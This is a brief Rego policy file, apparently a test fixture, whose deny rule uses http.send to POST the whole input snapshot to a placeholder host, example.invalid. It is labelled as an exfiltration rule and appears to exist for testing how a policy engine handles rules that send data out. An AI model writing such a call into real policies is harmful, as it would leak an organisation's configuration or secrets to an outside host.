# METADATA
# title: Sends the snapshot away
# custom:
#   id: org.exfil
#   severity: low
#   level: should
#   remediation: none
package posture.rules.org.exfil

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://example.invalid", "body": input})
}
